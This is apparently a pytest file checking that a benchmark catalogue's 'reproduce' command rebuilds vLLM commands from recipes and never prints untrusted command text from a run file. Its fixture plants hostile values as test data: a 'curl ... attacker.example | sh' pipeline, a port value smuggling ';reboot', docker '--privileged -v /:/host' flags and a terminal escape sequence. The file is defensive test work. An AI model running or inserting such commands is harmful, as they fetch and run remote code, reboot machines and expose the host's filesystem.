"""`catalogue reproduce` rebuilds every command from the recipe and the run's typed figures: a run file's own
command text (free text, untrusted) is never printed, and where it differs one escaped line says so."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from catalogue.commands.cli import main
from catalogue.models.launch import split_command
from catalogue.models.loading import load_entry
from catalogue.models.reproduce import measured_run
from runner.hosts.hosts import LOCAL
from runner.recording.reproduction import recorded_port, reproduction, run_ports

REPO = Path(__file__).resolve().parents[1]
HOSTILE_WORD = "\x1b]0;owned\x07"


RECORDED_BEFORE = {
    "tiny-cpu-docker": [
        "server: word 12 is '/root/.cache/huggingface/hub:/root/.c...' in the file, "
        "'/root/.cache/huggingface/hub:/root/.c...' rebuilt"
    ]
}
"""Runs recorded before a change of the runner's own words, and the one difference `reproduce` reports for each:
tiny-cpu-docker's run (2026-11-25) mounted the HF cache's hub read-write; the runner now mounts it read-only for an
offline recipe (`...hub:ro`, issue 44). A new measured run of the example is rebuilt word for word again."""


@pytest.mark.parametrize("recipe_id", ["tiny-cpu", "tiny-cpu-capacity", "tiny-cpu-docker"])
def test_a_runners_own_run_is_rebuilt_word_for_word_from_the_recipe_and_its_figures(recipe_id):
    """Servers, levels and each capacity probe (its rate, request count and seed from the run's typed fields) come
    out as the run file recorded them, so no difference is reported for an honest run."""
    entry = load_entry(REPO / "examples" / recipe_id)
    run = measured_run(entry, None)
    steps, differs = reproduction(entry, run, [LOCAL])
    assert differs == RECORDED_BEFORE.get(recipe_id, [])
    bench = [s.argv for s in steps if s.argv and "bench" in s.argv]
    assert len(bench) == len(run.provenance.bench_commands) == len(run.levels) + len(run.long_context) + len(run.rates)


def hostile_copy(tmp_path: Path) -> tuple[Path, dict]:
    """tiny-cpu-docker with a run file whose command text asks for the host and runs a pipeline."""
    root = tmp_path / "examples"
    shutil.copytree(REPO / "examples" / "tiny-cpu-docker", root / "tiny-cpu-docker")
    (path,) = (root / "tiny-cpu-docker" / "runs").glob("*.json")
    data = json.loads(path.read_text())
    prov = data["provenance"]
    serve = prov["serve_command"]
    serve[2:2] = ["--privileged", "-v", "/:/host", HOSTILE_WORD]
    serve[serve.index("--port") + 1] = "8124;reboot"
    prov["bench_commands"][0] += [";", "curl", "-s", "http://attacker.example/x", "|", "sh"]
    path.write_text(json.dumps(data, indent=2))
    return root, data


def test_a_run_files_extra_docker_flags_and_pipeline_are_never_printed(tmp_path, capsys):
    root, _data = hostile_copy(tmp_path)
    assert main(["--root", str(root), "reproduce", "tiny-cpu-docker"]) == 0
    out = capsys.readouterr().out
    commands = out.split("\n\n", 1)[1]
    for word in ("--privileged", "/:/host", "curl", "attacker.example", "reboot", "\x1b", "\x07"):
        assert word not in commands, word
    assert "\x1b" not in out and "\x07" not in out
    (note,) = [line for line in out.splitlines() if "command text differs" in line]
    assert "server: word 3 is '--privileged' in the file" in note and "(and 1 more)" in note
    blocks = out.split("\n\n")[1:]
    server = split_command(blocks[0].split(":\n", 1)[1])
    assert server[server.index("--port") + 1] == "8124"  # the recipe's own port


def test_a_differing_word_is_shown_escaped(tmp_path, capsys):
    root, data = hostile_copy(tmp_path)
    (path,) = (root / "tiny-cpu-docker" / "runs").glob("*.json")
    serve = data["provenance"]["serve_command"]
    del serve[2:5]  # the control characters come first now
    path.write_text(json.dumps(data))
    assert main(["--root", str(root), "reproduce", "tiny-cpu-docker"]) == 0
    out = capsys.readouterr().out
    assert "word 3 is '\\x1b]0;owned\\x07' in the file" in out and "\x1b" not in out


def test_recorded_ports_are_read_only_when_they_are_ports():
    assert [recorded_port(w) for w in ("8124", "0", "65536", "8124;reboot", "٣٣", "1e3", None)] == [
        8124,
        None,
        None,
        None,
        None,
        None,
        None,
    ]
    entry = load_entry(REPO / "examples" / "tiny-cpu-replicas")
    run = measured_run(entry, None)
    assert run_ports(run) == (8126, 4000)
    prov = run.provenance
    bad = prov.model_copy(
        update={"bench_commands": [["vllm", "bench", "serve", "--base-url", "http://127.0.0.1:40x0"]]}
    )
    assert run_ports(run.model_copy(update={"provenance": bad})) == (8126, None)


def test_a_container_recipe_is_reproduced_in_its_container_whatever_image_the_run_file_says(tmp_path, capsys):
    """attack44b F7: `provenance.image: null` made the rebuilt plan local: `env ... vllm serve` printed as a host
    command that passed no local-policy check and no `no container` consent."""
    root = tmp_path / "examples"
    shutil.copytree(REPO / "examples" / "tiny-cpu-docker", root / "tiny-cpu-docker")
    (path,) = (root / "tiny-cpu-docker" / "runs").glob("*.json")
    data = json.loads(path.read_text())
    data["provenance"]["image"] = None
    path.write_text(json.dumps(data, indent=2))
    assert main(["--root", str(root), "reproduce", "tiny-cpu-docker"]) == 0
    blocks = capsys.readouterr().out.split("\n\n")[1:]
    title, server = blocks[0].split(":\n", 1)
    assert title == "server, on host local" and split_command(server)[:2] == ["docker", "run"], blocks[0]
    assert not any(block.split(":\n", 1)[1].startswith("env ") for block in blocks)


def test_a_local_recipes_host_commands_carry_the_verdict_refresh_requires():
    entry = load_entry(REPO / "examples" / "tiny-cpu")
    steps, _ = reproduction(entry, measured_run(entry, None), [LOCAL])
    assert steps[0].argv is None and steps[0].title.startswith("run policy: these commands run on your machine")
    (line,) = steps[0].text.splitlines()
    assert line.startswith(f"{entry.folder / 'recipe.yaml'}:"), line
    assert "consent: no container: runs vLLM on your machine outside a container" in line, line
    assert line.endswith("run with --allow 'no container')"), line
    assert steps[1].title == "server, on host local" and steps[1].argv[0] == "env"
